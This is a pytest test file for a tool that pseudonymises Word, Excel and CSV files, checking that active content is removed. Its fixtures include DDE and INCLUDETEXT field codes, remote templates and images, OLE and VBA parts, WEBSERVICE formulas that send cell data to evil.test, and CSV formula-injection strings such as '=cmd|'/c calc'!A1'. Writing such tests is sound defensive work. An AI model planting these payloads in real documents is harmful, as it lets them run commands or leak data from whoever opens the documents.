"""A copy with pseudonyms fetches, runs and works out nothing from elsewhere when it is opened."""

import io
import re
import zipfile

import openpyxl
import pytest
import xlsxwriter
from docx import Document

from lcspr_kit.privacy.files import pseudonymise_file

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _package(data, path, parts):
    """A package with some parts changed (a function of what they were) or added."""
    with zipfile.ZipFile(io.BytesIO(data)) as packed, zipfile.ZipFile(path, "w") as target:
        for name in packed.namelist():
            target.writestr(name, parts.pop(name)(packed.read(name)) if name in parts else packed.read(name))
        for name, made in parts.items():
            target.writestr(name, made(b""))


def _docx(path, body, relations="", parts=None):
    out = io.BytesIO()
    Document().save(out)
    _package(
        out.getvalue(),
        path,
        {
            "word/document.xml": lambda _: f"<w:document {W}><w:body>{body}</w:body></w:document>".encode(),
            "word/_rels/document.xml.rels": lambda xml: xml.replace(b"</Relationships>", relations.encode() + b"</Relationships>"),
            **(parts or {}),
        },
    )


def _run(text):
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def _field(code, shown, tag="instrText"):
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return mark.format("begin") + "".join(f'<w:r><w:{tag} xml:space="preserve">{piece}</w:{tag}></w:r>' for piece in code) + mark.format("separate") + _run(shown) + mark.format("end")


def _relation(kind, target, number, outside=True):
    return f'<Relationship Id="x{number}" Type="{RELATION}{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if outside else ""}/>'


def _whole(path):
    with zipfile.ZipFile(path) as packed:
        assert packed.testzip() is None
        return {name: packed.read(name).decode("utf-8", "replace") for name in packed.namelist()}


@pytest.mark.parametrize(
    "code",
    [
        ['DDEAUTO cmd "/c calc"'],
        [" DD", "EAU", "TO excel x"],
        ["dde x y"],
        ["INCLUDETEXT http://evil.test/Hope%20Brannow"],
        ['INCLUDEPICTURE "\\\\\\\\server\\\\a.png" \\d'],
        ['HYPERLINK "https://evil.test/"'],
        ['HYPERLINK \\l "here" "https://evil.test/"'],
        ["LINK Excel.Sheet.12 x"],
        ["DATABASE \\d x"],
        ["MACROBUTTON Run here"],
        ["QUOTE ", "</w:instrText></w:r>" + _field(["DDE x"], "y") + "<w:r><w:instrText>"],
        [""],
    ],
)
def test_a_field_keeps_what_it_shows_and_loses_its_code(register, tmp_path, code):
    _docx(tmp_path / "a.docx", f"<w:p>{_run('Before ')}{_field(code, 'Hope Brannow')}{_run(' after')}</w:p>")
    result = pseudonymise_file(tmp_path / "a.docx", register, tmp_path / "b.docx")
    assert [paragraph.text for paragraph in Document(tmp_path / "b.docx").paragraphs] == ["Before Mother after"]
    assert not re.search("instrText|fldChar|evil|server", _whole(tmp_path / "b.docx")["word/document.xml"])
    assert "field" in result.taken_out[0] and result.left == ()


@pytest.mark.parametrize("code", ["PAGE", 'TOC \\o "1-3" \\h \\z', 'HYPERLINK \\l "Findings" \\o "Go there"', "REF _Ref1 \\h", "=SUM(ABOVE)"])
def test_harmless_fields_stay(register, tmp_path, code):
    _docx(tmp_path / "a.docx", f'<w:p>{_field([code], "1")}<w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}">{_run("1")}</w:fldSimple></w:p>')
    result = pseudonymise_file(tmp_path / "a.docx", register, tmp_path / "b.docx")
    kept = _whole(tmp_path / "b.docx")["word/document.xml"]
    assert result.taken_out == () and kept.count("fldCharType") == 3 and "fldSimple" in kept


def test_names_in_the_code_of_a_field_that_stays_are_changed(register, tmp_path):
    _docx(tmp_path / "a.docx", f'<w:p>{_field(["REF Hope", " Brannow"], "x")}</w:p><w:p><w:fldSimple w:instr="XE &quot;Hope Brannow&quot;">{_run("y")}</w:fldSimple></w:p>')
    result = pseudonymise_file(tmp_path / "a.docx", register, tmp_path / "b.docx")
    assert "Brannow" not in _whole(tmp_path / "b.docx")["word/document.xml"] and result.left == ()


def test_nothing_in_a_word_file_leads_out_or_runs(register, tmp_path):
    relations = "".join(
        [
            _relation("hyperlink", "https://evil.test/Hope", 1),
            _relation("image", "https://evil.test/a.png", 2),
            _relation("aFChunk", "/word/chunk.html", 3, outside=False),
            _relation("oleObject", "file:///c:/x.xlsx", 4),
            _relation("package", "embeddings/a.xlsx", 5, outside=False),
            _relation("vbaProject", "vbaProject.bin", 6, outside=False),
            _relation("image", "media/kept.jpeg", 7, outside=False),
        ]
    )
    body = (
        f'<w:p><w:hyperlink r:id="x1">{_run("Hope Brannow")}</w:hyperlink>{_run(" left")}</w:p><w:altChunk r:id="x3"/>'
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="https://evil.test/b"><v:imagedata r:id="x2"/></v:shape></w:pict></w:r>'
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="x4"/></w:object></w:r></w:p>'
    )
    settings = "word/_rels/settings.xml.rels"
    _docx(
        tmp_path / "a.docx",
        body,
        relations,
        {
            "word/settings.xml": lambda _: f'<w:settings {W}><w:attachedTemplate r:id="t1"/><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge><w:zoom w:percent="100"/></w:settings>'.encode(),
            settings: lambda _: f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t1" Type="{RELATION}attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>'.encode(),
            "word/chunk.html": lambda _: b"<p>Hope Brannow</p>",
            "word/embeddings/a.xlsx": lambda _: b"Hope Brannow",
            "word/vbaProject.bin": lambda _: b"Hope Brannow",
            "word/media/kept.jpeg": lambda _: b"",
        },
    )
    result = pseudonymise_file(tmp_path / "a.docx", register, tmp_path / "b.docx")
    parts = _whole(tmp_path / "b.docx")
    everything = "\n".join(parts.values())
    assert not re.search("evil|External|altChunk|OLEObject|attachedTemplate|mailMerge|SELECT|vbaProject|file:", everything)
    assert not {"word/chunk.html", "word/embeddings/a.xlsx", "word/vbaProject.bin"} & set(parts) and "word/media/kept.jpeg" in parts
    assert Document(tmp_path / "b.docx").paragraphs[0].text == "Mother left" and "w:zoom" in parts["word/settings.xml"]
    assert any("link to outside (hyperlink)" in what for what in result.taken_out) and result.left == ()


def test_formulas_that_reach_outside_become_the_value_they_showed(register, tmp_path):
    with xlsxwriter.Workbook(tmp_path / "a.xlsx") as book:
        sheet = book.add_worksheet("Log")
        live = ['=WEBSERVICE("http://evil.test/"&A9)', '=HYPERLINK("http://evil.test","x")', "=cmd|'/c calc'!A0", "=[1]Other!A1", "='c:\\x\\[a.xlsx]S'!A1", "=Reach+1", "=_xlfn.IMAGE(A1)"]
        for number, formula in enumerate(live):
            sheet.write_formula(number, 0, formula, None, "Hope Brannow")
        sheet.write_formula("B1", "=SUM(C1:C2)", None, 3)
        sheet.write_formula("B2", '="a|b"&Table1[[#This Row],[2019]]', None, "a|b")
        sheet.write_formula("B3", '=WEBSERVICE("http://evil.test")', None, "")
        book.define_name("Reach", "=WEBSERVICE(Log!$A$9)")
        sheet.write_url("D1", "https://evil.test/Hope", string="Hope Brannow")
        sheet.write_url("D2", "internal:'Log'!A1", string="inside")
        sheet.conditional_format("A1:A3", {"type": "formula", "criteria": '=WEBSERVICE("http://evil.test")=1'})
    result = pseudonymise_file(tmp_path / "a.xlsx", register, tmp_path / "b.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "b.xlsx")["Log"]
    assert [sheet.cell(row, 1).value for row in range(1, 8)] == ["Mother"] * 7
    assert sheet["B1"].value == "=SUM(C1:C2)" and "Table1" in sheet["B2"].value and sheet["B3"].value in (None, "")
    assert sheet["D1"].value == "Mother" and sheet["D2"].hyperlink.location
    assert not re.search("evil|External|WEBSERVICE|cmd", "\n".join(_whole(tmp_path / "b.xlsx").values()))
    assert any("cell B3" in what for what in result.taken_out) and result.left == ()


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("a,=1+1\n", "a,'=1+1\n"),
        ('"=cmd|\'/c calc\'!A1",b\r\n@x,\r\n', '"\'=cmd|\'/c calc\'!A1",b\r\n\'@x,\r\n'),
        ("-5,+3.2%,-,2019\n- was seen,+44 x\n", "-5,+3.2%,-,2019\n'- was seen,'+44 x\n"),
        ('a,"b, =1","c\n=2"\n', 'a,"b, =1","c\n=2"\n'),
        ("a;=1\n", "a;'=1\n"),
        ("=Hope Brannow,x\n", "'=Mother,x\n"),
        ('a,"=1', "a,\"'=1"),
    ],
)
def test_cells_of_a_csv_that_a_spreadsheet_would_run_are_quoted(register, tmp_path, before, after):
    (tmp_path / "a.csv").write_text(before, encoding="utf-8", newline="")
    result = pseudonymise_file(tmp_path / "a.csv", register, tmp_path / "b.csv")
    assert (tmp_path / "b.csv").read_bytes().decode() == after
    assert bool(result.taken_out) == (before.replace("Hope Brannow", "Mother") != after)
